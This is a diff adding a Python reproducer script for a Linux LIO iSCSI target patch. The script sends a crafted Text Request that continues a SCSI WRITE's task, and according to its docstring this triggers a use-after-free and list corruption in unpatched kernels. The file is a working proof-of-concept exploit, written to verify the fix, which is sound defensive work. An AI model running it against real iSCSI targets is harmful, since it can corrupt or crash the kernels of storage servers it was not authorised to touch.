@@ -1,0 +1,136 @@
+#!/usr/bin/env python3
+"""Send LIO a Text Request that continues a SCSI WRITE's task.
+
+Reproducer for upstream/0005-scsi-target-iscsi-reject-text-continuation-of-non-text-task.patch.
+It logs in to TARGET at PORTAL with this project's PDU-level initiator
+(initiator/iscsi_initiator), InitialR2T=Yes, ImmediateData=No, sends a
+WRITE(10) of one block without data, waits for the R2T that asks for it,
+and then sends a Text Request whose ITT is the WRITE's and whose Target
+Transfer Tag is the R2T's, as a continuation of a Text task would carry:
+
+  empty        no data segment. Stock 6.1 and 6.12 rewrite the WRITE as
+               a Text task (iscsit_setup_text_cmd: opcode, state, data
+               direction), answer it with a Text Response and free it
+               once ExpStatSN acknowledges that answer, while the target
+               core still holds the WRITE waiting for its data: the
+               release of the connection then uses a freed command.
+  sendtargets  "SendTargets=All": besides that, iscsit_process_text_cmd
+               adds the WRITE to conn_cmd_list a second time (list
+               corruption; a list_add corruption report on kernels built
+               with CONFIG_DEBUG_LIST).
+
+A NOP-Out acknowledging every status follows, then the connection is
+closed. With the patch LIO answers a Reject (reason 0x04, protocol error)
+and closes the connection; cxgbit-ext's offloaded path does the same
+before LIO sees the PDU.
+
+What the target's kernel did is in its log (dmesg): the reproducer sees
+only the PDUs. Run it only against a test target: on a stock kernel it
+corrupts the target host's kernel. Example:
+
+  upstream/reproducers/text_continuation.py 198.18.1.1 iqn.2026-11.org.cxgbit-ext:pdu --case empty
+"""
+
+from __future__ import annotations
+
+import argparse
+import struct
+import sys
+import time
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "initiator"))
+
+from iscsi_initiator.pdu import RSVD_TAG, Op, Pdu, encode_keys, nop_out, scsi_command
+from iscsi_initiator.session import Connection, ConnectionClosed, Params
+
+BLOCK = 512
+WRITE10 = struct.pack(">BBIBHB", 0x2A, 0, 0, 0, 1, 0)  # LBA 0, one block
+F_FINAL = 0x80
+CASES = {"empty": b"", "sendtargets": encode_keys({"SendTargets": "All"})}
+
+
+def text_continuation(itt: int, ttt: int, cmdsn: int, expstatsn: int, data: bytes) -> Pdu:
+    p = Pdu()
+    p.opcode = Op.TEXT_REQ
+    p.immediate = True
+    p.flags = F_FINAL
+    p.itt, p.ttt, p.cmdsn, p.expstatsn = itt, ttt, cmdsn, expstatsn
+    p.data = data
+    return p
+
+
+def describe(rsp: Pdu) -> str:
+    """One line for a PDU from the target."""
+    if rsp.opcode == Op.REJECT:
+        rejected = rsp.data[0] & 0x3F if rsp.data else -1
+        return f"Reject, reason 0x{rsp.u8(2):02x} (of a PDU with opcode 0x{rejected:02x})"
+    if rsp.opcode == Op.R2T:
+        return f"R2T for ITT 0x{rsp.itt:08x}, TTT 0x{rsp.ttt:08x}, {rsp.desired_length} bytes"
+    if rsp.opcode == Op.TEXT_RSP:
+        return f"Text Response, ITT 0x{rsp.itt:08x} (the WRITE's task answered as a Text task), {rsp.dlen} bytes"
+    try:
+        return f"{Op(rsp.opcode).name}, ITT 0x{rsp.itt:08x}"
+    except ValueError:
+        return f"opcode 0x{rsp.opcode:02x}"
+
+
+def watch(c: Connection, seconds: float) -> list[Pdu]:
+    """Print what the target sends for ``seconds`` s (or until it closes)."""
+    got: list[Pdu] = []
+    deadline = time.monotonic() + seconds
+    while (left := deadline - time.monotonic()) > 0:
+        c.sock.settimeout(left)
+        try:
+            rsp = c.recv()
+        except (ConnectionClosed, ConnectionError):
+            print("  the target dropped the connection")
+            break
+        except TimeoutError:
+            print(f"  (nothing more within {seconds:g} s)")
+            break
+        print(" ", describe(rsp))
+        if rsp.opcode in (Op.TEXT_RSP, Op.SCSI_RSP, Op.NOOP_IN) and rsp.itt != RSVD_TAG:
+            c.expstatsn = rsp.statsn + 1
+        got.append(rsp)
+    return got
+
+
+def main(argv: list[str] | None = None) -> int:
+    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    ap.add_argument("portal", help="target portal, HOST or HOST:PORT")
+    ap.add_argument("target", help="target IQN")
+    ap.add_argument("--initiator", default="iqn.2026-11.org.cxgbit-ext:reproducer", help="initiator IQN")
+    ap.add_argument("--case", choices=sorted(CASES), default="empty")
+    ap.add_argument("--wait", type=float, default=3, help="seconds to watch after each PDU sent")
+    args = ap.parse_args(argv)
+
+    host, _, port = args.portal.rpartition(":") if ":" in args.portal else (args.portal, "", "3260")
+    c = Connection(host, int(port))
+    c.login(args.initiator, args.target, Params(immediate_data=False, initial_r2t=True))
+    itt = c.next_itt()
+    print(f"sending WRITE(10), ITT 0x{itt:08x}, one block, no data (InitialR2T=Yes: the target asks for it)")
+    c.send(scsi_command(WRITE10, itt=itt, cmdsn=c.cmdsn, expstatsn=c.expstatsn, write_len=BLOCK))
+    c.cmdsn += 1
+    r2ts = [p for p in watch(c, args.wait) if p.opcode == Op.R2T and p.itt == itt]
+    if not r2ts:
+        print("no R2T for the WRITE: nothing to continue; nothing more sent")
+        c.close()
+        return 2
+    ttt = r2ts[0].ttt
+    data = CASES[args.case]
+    print(f"sending a Text Request, ITT 0x{itt:08x} (the WRITE's), TTT 0x{ttt:08x} (the R2T's), {len(data)} bytes")
+    try:
+        c.send(text_continuation(itt, ttt, c.cmdsn, c.expstatsn, data))
+        watch(c, args.wait)
+        print(f"sending a NOP-Out, ExpStatSN {c.expstatsn} (acknowledges every status so far)")
+        c.send(nop_out(itt=c.next_itt(), cmdsn=c.cmdsn, expstatsn=c.expstatsn))
+        watch(c, args.wait)
+    except (ConnectionClosed, ConnectionError):
+        print("  the target dropped the connection")
+    c.close()
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
